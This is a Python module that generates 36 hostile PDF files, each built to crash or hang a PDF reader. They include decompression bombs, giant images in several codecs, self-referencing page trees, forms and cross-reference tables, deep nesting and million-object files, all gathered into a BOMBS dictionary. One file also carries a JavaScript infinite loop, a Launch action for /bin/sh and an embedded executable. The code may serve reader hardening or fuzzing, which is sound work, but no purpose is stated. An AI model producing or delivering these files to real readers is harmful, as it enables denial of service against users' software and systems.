"""PDFs made to take a reader down: each is one trick, written byte by byte."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterable

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
MEGA = 1 << 20


def file_of(bodies: Iterable[bytes], trailer: bytes = b"") -> bytes:
    """A file from the bodies of its objects 1, 2, …; object 1 is the catalogue."""
    parts, places, at = [b"%PDF-1.7\n"], [], 9
    for number, body in enumerate(bodies, start=1):
        piece = b"%d 0 obj\n%s\nendobj\n" % (number, body)
        places.append(at)
        parts.append(piece)
        at += len(piece)
    size = len(places) + 1
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    parts.append(b"".join(b"%010d 00000 n \n" % place for place in places))
    parts.append(b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (size, trailer))
    parts.append(b"startxref\n%d\n%%%%EOF\n" % at)
    return b"".join(parts)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def packed(data: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + entries)


def zeros(size: int, block: bytes = b"\0" * MEGA) -> bytes:
    """Deflated data that unfolds to ``size`` bytes of ``block`` again and again."""
    packer, parts = zlib.compressobj(9), []
    for _ in range(size // len(block)):
        parts.append(packer.compress(block))
    return b"".join([*parts, packer.flush()])


def page(content: bytes = b"", entries: bytes = b"", *others: bytes, filters: bytes = b"") -> bytes:
    """A file of one page, whose content is object 4; ``others`` begin at 5."""
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s >>" % entries
    return file_of([CATALOG, PAGES, own, stream(content, filters), *others])


def unfolding_content(size: int = 1 << 31) -> bytes:
    return page(zeros(size, b"q Q " * (MEGA // 4)), filters=b"/Filter /FlateDecode")


def nested_unfolding() -> bytes:
    data = zlib.compress(zlib.compress(zeros(1 << 31, b"q Q " * (MEGA // 4)), 9), 9)
    return page(data, filters=b"/Filter [/FlateDecode /FlateDecode /FlateDecode]")


def run_lengths() -> bytes:
    data = zlib.compress(zlib.compress(b"\x81q" * (8 * MEGA), 9), 9)
    return page(data, filters=b"/Filter [/FlateDecode /FlateDecode /RunLengthDecode]")


def huge_page() -> bytes:
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e9 1e9] /UserUnit 1000 >>"
    return file_of([CATALOG, PAGES, own])


def million_objects() -> bytes:
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>"
    return file_of([CATALOG, PAGES, own, *([b"<< /A [1 0 R] >>"] * 1_000_000)])


def million_objects_in_a_stream() -> bytes:
    count = 1_000_000
    heads = b" ".join(b"%d %d" % (10 + n, 3 * n) for n in range(count))
    body = heads + b" " + b"[] " * count
    entries = b"/Type /ObjStm /N %d /First %d" % (count, len(heads) + 1)
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>"
    return file_of([CATALOG, PAGES, own, packed(body, entries)])


def page_tree_that_is_its_own_child() -> bytes:
    return file_of([CATALOG, b"<< /Type /Pages /Count 1000000 /Kids [2 0 R 2 0 R] >>"])


def deep_page_tree(depth: int = 200_000) -> bytes:
    nodes = [b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (n + 3) for n in range(depth)]
    return file_of([CATALOG, *nodes, b"<< /Type /Page /MediaBox [0 0 99 99] >>"])


def pages_that_are_not_there() -> bytes:
    return file_of([CATALOG, b"<< /Type /Pages /Count 2147483647 /Kids [] >>"])


def image(entries: bytes, data: bytes) -> bytes:
    resources = b"/Resources << /XObject << /I 5 0 R >> >>"
    head = b"/Type /XObject /Subtype /Image "
    return page(b"q 500 0 0 500 0 0 cm /I Do Q", resources, stream(data, head + entries))


def giant_image() -> bytes:
    entries = b"/Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    return image(entries + b" /Filter /FlateDecode", zeros(1 << 30))


def giant_image_of_bits() -> bytes:
    entries = b"/Width 200000 /Height 200000 /BitsPerComponent 1 /ColorSpace /DeviceGray"
    return image(entries + b" /Filter /FlateDecode", zeros(1 << 30))


def giant_fax() -> bytes:
    parameters = b"/DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>"
    entries = b"/Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray "
    return image(entries + b"/Filter /CCITTFaxDecode " + parameters, b"\x00\x10" * 100_000)


def giant_jpeg() -> bytes:
    head = b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x11\x00\x02\x11\x01\x03\x11\x01"
    entries = b"/Width 65535 /Height 65535 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    return image(entries + b" /Filter /DCTDecode", head + b"\xff\xda\x00\x0c" + b"\x55" * MEGA)


def giant_jpeg_2000() -> bytes:
    size = b"\xff\x4f\xff\x51\x00\x2f\x00\x00" + b"\x7f\xff\xff\xff" * 2 + b"\0" * 8
    tile = b"\x7f\xff\xff\xff" * 2 + b"\0" * 8 + b"\x00\x03" + b"\x07\x01\x01" * 3
    entries = b"/Width 2147483647 /Height 2147483647 /Filter /JPXDecode"
    return image(entries, size + tile + b"\xff\x52" + b"\0" * 100)


def giant_jbig2() -> bytes:
    segment = b"\0\0\0\0\x30\0\x01\0\0\0\x13\xff\xff\xff\xff\xff\xff\xff\xff" + b"\0" * 11
    entries = b"/Width 100000 /Height 100000 /BitsPerComponent 1 /ColorSpace /DeviceGray"
    return image(entries + b" /Filter /JBIG2Decode", segment)


def fonts(*bodies: bytes) -> bytes:
    resources = b"/Resources << /Font << /F 5 0 R >> >>"
    return page(b"BT /F 12 Tf 50 700 Td <00410042> Tj ET", resources, *bodies)


def giant_font() -> bytes:
    return fonts(
        b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R /FirstChar 0"
        b" /LastChar 1 /Widths [1 1] >>",
        b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R >>",
        stream(zeros(1 << 29), b"/Filter /FlateDecode /Length1 536870912"),
    )


def giant_to_unicode() -> bytes:
    ranges = b"1 beginbfrange <0000> <ffff> <0041> endbfrange\n" * 2_000_000
    cmap = b"/CMapName /X def 1 begincodespacerange <0000> <ffff> endcodespacerange\n" + ranges
    return fonts(
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H"
        b" /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>",
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo"
        b" << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>",
        packed(cmap),
    )


def font_that_draws_itself() -> bytes:
    glyph = b"1000 0 0 0 1000 1000 d1 BT /F 12 Tf <41> Tj ET"
    return fonts(
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [1 0 0 1 0 0]"
        b" /CharProcs << /a 6 0 R >> /Encoding << /Differences [0 /a 65 /a /a] >> /FirstChar 0"
        b" /LastChar 66 /Widths [1 1] /Resources << /Font << /F 5 0 R >> >> >>",
        stream(glyph),
    )


def form(content: bytes, resources: bytes) -> bytes:
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources "
    return stream(content, head + resources)


def form_that_draws_itself() -> bytes:
    own = b"<< /XObject << /X 5 0 R >> >>"
    return page(b"/X Do", b"/Resources " + own, form(b"/X Do", own))


def forms_that_multiply(levels: int = 12, times: int = 10) -> bytes:
    """Each level draws the next ten times: a million millions of rectangles."""
    levels_ = [
        form(b"/X Do " * times, b"<< /XObject << /X %d 0 R >> >>" % (6 + n)) for n in range(levels)
    ]
    last = form(b"0 0 9 9 re f", b"<< >>")
    return page(b"/X Do", b"/Resources << /XObject << /X 5 0 R >> >>", *levels_, last)


def nested_groups(levels: int = 5_000) -> bytes:
    group = b" /Group << /S /Transparency /I true >> "
    made = [
        stream(
            b"/X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]" + group
            + b"/Resources << /XObject << /X %d 0 R >> >>" % (6 + n),
        )
        for n in range(levels)
    ]  # fmt: skip
    last = form(b"0 0 9 9 re f", b"<< >>")
    return page(b"/X Do", b"/Resources << /XObject << /X 5 0 R >> >>", *made, last)


def tiny_tiles() -> bytes:
    tile = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1]"
    steps = b" /XStep 0.00001 /YStep 0.00001 /Resources << >>"
    resources = b"/Resources << /Pattern << /P 5 0 R >> >>"
    content = b"/Pattern cs /P scn 0 0 595 842 re f"
    return page(content, resources, stream(b"0 0 1 1 re f", tile + steps))


def endless_text() -> bytes:
    shown = b"(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj 0 -1 Td "
    resources = b"/Resources << /Font << /F 5 0 R >> >>"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    content = zlib.compress(b"BT /F 9 Tf " + shown * 3_000_000 + b"ET", 9)
    return page(content, resources, font, filters=b"/Filter /FlateDecode")


def endless_path() -> bytes:
    lines = zlib.compress(b"0 0 m " + b"1 2 l 3 1 l 9 9 8 8 1 1 c " * 3_000_000 + b"S", 9)
    return page(lines, filters=b"/Filter /FlateDecode")


def deep_brackets() -> bytes:
    return page(b"", b"/A " + b"[" * 2_000_000)


def deep_dictionaries() -> bytes:
    return page(b"", b"/A " + b"<< /A " * 1_000_000)


def many_saves() -> bytes:
    content = zlib.compress(b"q " * 20_000_000, 9)
    return page(content, filters=b"/Filter /FlateDecode")


def million_annotations() -> bytes:
    kids = b" ".join([b"5 0 R"] * 1_000_000)
    note = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (x:) >> >>"
    return page(b"", b"/Annots [%s]" % kids, note)


def outline_that_goes_round() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>"
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>"
    root = b"<< /First 5 0 R /Last 5 0 R /Count 1 >>"
    item = b"<< /Title (a) /Parent 4 0 R /First 5 0 R /Last 5 0 R /Next 5 0 R >>"
    return file_of([catalog, PAGES, own, root, item])


def deep_outline(depth: int = 300_000) -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>"
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>"
    items = [b"<< /Title (a) /First %d 0 R >>" % (n + 5) for n in range(depth)]
    return file_of([catalog, PAGES, own, *items])


def table_that_points_to_itself() -> bytes:
    body = page(b"")
    place = body.rindex(b"xref\n0")
    return body.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def object_streams_that_extend_each_other() -> bytes:
    one = packed(b"8 0 [] ", b"/Type /ObjStm /N 1 /First 4 /Extends 5 0 R")
    two = packed(b"9 0 [] ", b"/Type /ObjStm /N 1 /First 4 /Extends 4 0 R")
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 8 0 R >>"
    return file_of([CATALOG, PAGES, own, one, two])


def lengths_that_refer_to_each_other() -> bytes:
    one = b"<< /Length 5 0 R >>\nstream\nq Q\nendstream"
    two = b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>"
    return file_of([CATALOG, PAGES, own, one, two])


def odd_encryption() -> bytes:
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>"
    lock = b"<< /Filter /Standard /V 99 /R 99 /Length 99999999 /O () /U () /P -1 >>"
    return file_of([CATALOG, PAGES, own, lock], b"/Encrypt 4 0 R /ID [() ()]")


def programs_and_attachments() -> bytes:
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(1);) >>"
        b" /AA << /WC << /S /Launch /F (/bin/sh) >> >>"
        b" /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>"
    )
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /Launch >> >> >>"
    attached = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
    return file_of([catalog, PAGES, own, attached, packed(b"MZ" * MEGA, b"/Type /EmbeddedFile")])


def million_fonts() -> bytes:
    named = b" ".join(b"/F%d 5 0 R" % n for n in range(300_000))
    used = zlib.compress(b"".join(b"BT /F%d 9 Tf (a) Tj ET " % n for n in range(300_000)), 9)
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    resources = b"/Resources << /Font << %s >> >>" % named
    return page(used, resources, font, filters=b"/Filter /FlateDecode")


BOMBS: dict[str, Callable[[], bytes]] = {
    made.__name__.replace("_", " "): made
    for made in (
        unfolding_content, nested_unfolding, run_lengths, huge_page, million_objects,
        million_objects_in_a_stream, page_tree_that_is_its_own_child, deep_page_tree,
        pages_that_are_not_there, giant_image, giant_image_of_bits, giant_fax, giant_jpeg,
        giant_jpeg_2000, giant_jbig2, giant_font, giant_to_unicode, font_that_draws_itself,
        form_that_draws_itself, forms_that_multiply, nested_groups, tiny_tiles, endless_text,
        endless_path, deep_brackets, deep_dictionaries, many_saves, million_annotations,
        outline_that_goes_round, deep_outline, table_that_points_to_itself,
        object_streams_that_extend_each_other, lengths_that_refer_to_each_other, odd_encryption,
        programs_and_attachments, million_fonts,
    )
}  # fmt: skip
